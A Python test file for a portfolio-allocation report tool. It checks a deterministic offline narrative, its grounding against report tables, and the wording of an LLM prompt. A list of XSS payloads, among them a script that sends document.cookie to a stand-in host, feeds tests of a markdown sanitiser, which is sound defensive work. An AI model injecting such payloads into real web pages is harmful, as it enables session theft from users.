"""The offline narrative: deterministic, labelled, every section, and grounded."""

from __future__ import annotations

import dataclasses
import datetime as dt

import numpy as np
import polars as pl
import pytest

from dynalloc_dagster.bedrock.grounding import check_grounding
from dynalloc_dagster.bedrock.markdown import safe_markdown
from dynalloc_dagster.bedrock.narrative import (
    OFFLINE_AUTHOR,
    SECTIONS,
    ReportTables,
    narrative_prompt,
    offline_narrative,
    write_narrative,
)
from dynalloc_dagster.partitions import in_scenario_order, scenario_label


def test_offline_narrative_is_deterministic_and_labelled(tables: ReportTables) -> None:
    first, second = write_narrative(tables, None), write_narrative(tables, None)
    assert first == second
    assert first.written_by == OFFLINE_AUTHOR
    assert (first.model_id, first.input_tokens, first.output_tokens, first.cost_usd) == (
        None, 0, 0, 0.0)
    assert first.text.startswith("_Written without Bedrock")
    for section in SECTIONS:
        assert f"## {section}" in first.text


def test_offline_narrative_explains_the_recommended_rule(tables: ReportTables) -> None:
    text = offline_narrative(tables)
    assert "The recommended rule is `a3f9c01b2e`, linear, target vol 10.5%" in text
    assert "risk aversion 2.35" in text
    assert "Today's equity weight under the rule: 61.8% (as of 2026-11-23)" in text
    assert "- Bear market: best rule `a3f9c01b2e` (mean Sharpe 0.29)" in text
    regimes = [line.split(":")[0] for line in text.splitlines()
               if line.startswith("- ") and ": best rule" in line]
    assert regimes == ["- " + scenario_label(s) for s in in_scenario_order(
        tables.scenario_comparison["scenario"].to_list())]  # the report's order and names
    assert f"its worst regime is {scenario_label('bear')}." in text
    assert "No rule meets these objectives in every regime: pass_sharpe" in text
    assert "- Stop reason: max_configs." in text


def test_inverse_rule_says_risk_aversion_is_unused(tables: ReportTables) -> None:
    recommended = {**tables.recommended, "config_id": "0123456789", "weight_fn": "inverse_vol",
                   "target_vol": 0.0875, "vol_window_months": 18, "risk_aversion": None}
    text = offline_narrative(dataclasses.replace(tables, recommended=recommended))
    assert "- Risk aversion: not used by the inverse_vol rule." in text
    assert "risk aversion 0" not in text


def test_offline_narrative_passes_its_own_grounding_check(tables: ReportTables) -> None:
    result = check_grounding(offline_narrative(tables), tables)
    assert result.numbers_checked > 40
    assert result.unmatched == []


@pytest.mark.parametrize("seed", range(5))
def test_offline_narrative_is_grounded_on_random_tables(seed: int) -> None:
    """Random tables of 37 configs in 5 rounds across 5 scenarios: every figure the
    offline text writes is found again within its rounding."""
    tables = _random_tables(np.random.default_rng(seed))
    result = check_grounding(offline_narrative(tables), tables)
    assert result.numbers_checked > 50
    assert result.unmatched == []


def _random_tables(rng: np.random.Generator) -> ReportTables:
    n, scenarios = 37, ["base", "bear", "bull", "high_vol", "low_vol"]
    ids = [f"{i:010x}" for i in rng.choice(16**9, size=n, replace=False)]
    fns = rng.choice(["inverse_vol", "inverse_vol_squared", "linear", "sigmoid"], size=n)
    risk = [None if f.startswith("inverse") else float(rng.uniform(0.5, 5.0)) for f in fns]
    objective = np.sort(rng.uniform(-1.0, 1.0, size=n))[::-1]
    leaderboard = pl.DataFrame({
        "rank": np.arange(1, n + 1), "config_id": ids, "weight_fn": fns,
        "target_vol": rng.uniform(0.05, 0.2, size=n), "vol_window_months": rng.integers(6, 25, n),
        "risk_aversion": risk, "robustness": objective + rng.uniform(0, 0.2, n),
        "objective": objective, "worst_scenario": rng.choice(scenarios, size=n),
        "robust": objective > 0.5,
    })
    sharpe = rng.normal(0.5, 0.4, size=(len(scenarios), 3))
    scenario_comparison = pl.DataFrame({
        "scenario": scenarios, "n_configs": [n] * len(scenarios),
        "best_config_id": rng.choice(ids, size=len(scenarios)),
        "best_sharpe_mean": sharpe.max(axis=1), "median_sharpe_mean": np.median(sharpe, axis=1),
        "worst_sharpe_mean": sharpe.min(axis=1),
        "n_meeting_objectives": rng.integers(0, n, len(scenarios)),
    })
    params = ["weight_fn", "target_vol", "vol_window_months", "risk_aversion"]
    sensitivity = pl.DataFrame({
        "scenario": [s for s in scenarios for _ in params], "parameter": params * len(scenarios),
        "main_effect_share": rng.uniform(0, 1, len(scenarios) * len(params)),
    })
    rounds = np.repeat(np.arange(5), [17, 5, 5, 5, 5])
    history_objective = rng.permutation(objective)
    history = pl.DataFrame({
        "evaluation_index": np.arange(1, n + 1), "round": rounds, "config_id": ids,
        "proposer": np.where(rounds == 0, "lhs", "tpe"), "objective": history_objective,
        "best_objective_so_far": np.maximum.accumulate(history_objective),
        "stop_reason": ["converged"] * n,
    })
    compliance = pl.DataFrame({
        "config_id": [c for c in ids for _ in scenarios], "scenario": scenarios * n,
        "sharpe_median": rng.normal(0.5, 0.4, n * len(scenarios)),
        "max_drawdown_median": rng.uniform(0.02, 0.4, n * len(scenarios)),
        "meets_objectives": rng.uniform(size=n * len(scenarios)) < 0.2,
    })
    best = leaderboard.row(0, named=True)
    return ReportTables(
        leaderboard=leaderboard, scenario_comparison=scenario_comparison,
        parameter_sensitivity=sensitivity, optimisation_history=history,
        constraint_compliance=compliance,
        objectives={"target_vol": 0.1, "vol_tolerance": 0.02, "robustness_threshold": 0.8,
                    "assumed_tc_bps": 10.0},
        unmet_objectives=["pass_sharpe", "pass_drawdown"],
        recommended={**{k: best[k] for k in ("config_id", "weight_fn", "target_vol",
                                             "vol_window_months", "risk_aversion")},
                     "equity_weight": float(rng.uniform()), "as_of": dt.date(2026, 3, 31)},
    )


HOSTILE = [
    ("Intro <script>fetch('https://x.example/?c='+document.cookie)</script>end.",
     "Intro end."),
    ("<SCRIPT type='text/javascript'>alert(1)", ""),
    ("A <img src=x onerror=alert(1)> B <b>bold</b> <!-- hidden -->C", "A  B bold C"),
    ("![chart](https://tracker.example/pixel.png?id=1) seen", "chart seen"),
    ("![logo][ref] ok", "logo ok"),
    ("[click](javascript:alert(1)) now", "click) now"),
    ("[click](JaVaScRiPt:alert`1`) now", "click now"),
    ("[click](&#106;avascript:alert`1`)", "click"),
    ("[data](data:text/html;base64,PHNjcmlwdD4=)", "data"),
    ("<javascript:alert(1)> link", " link"),
    ("[ref]: javascript:alert(1)\nbody", "\nbody"),
]
KEPT = [
    "## Risks and limits\n\n- Sharpe < 0.5 in **bear**; robustness > 0.8\n",
    "See [the study](https://example.com/study \"title\") and [notes](#risks).",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "[ref]: https://example.com/x\nbody",
]


@pytest.mark.parametrize(("text", "safe"), HOSTILE)
def test_safe_markdown_drops_what_a_viewer_would_run_or_fetch(text: str, safe: str) -> None:
    assert safe_markdown(text) == safe


@pytest.mark.parametrize("text", KEPT)
def test_safe_markdown_keeps_ordinary_markdown(text: str) -> None:
    assert safe_markdown(text) == text


def test_the_prompt_tells_the_model_the_scenarios_names_in_the_report(
        tables: ReportTables) -> None:
    """The tables carry keys (bear); the report names them (Bear market): the model is told
    both, in the report's order, so its narrative reads like the rest of the report."""
    prompt = narrative_prompt(tables)
    keys = in_scenario_order(tables.scenario_comparison["scenario"].to_list())
    assert len(keys) > 1
    assert ("The report names the scenarios (the tables' keys) as: "
            + "; ".join(f"{key} = {scenario_label(key)}" for key in keys)
            + ". Use those names in the text.") in prompt
